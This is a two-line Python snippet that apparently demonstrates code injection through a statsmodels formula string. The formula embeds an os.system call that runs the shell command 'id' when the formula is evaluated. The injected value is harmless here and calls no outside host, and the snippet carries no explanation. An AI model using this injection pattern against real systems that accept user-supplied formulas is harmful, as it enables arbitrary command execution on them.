import statsmodels.api as sm
sm.OLS.from_formula("y ~ __import__('os').system('id')", data["x"])
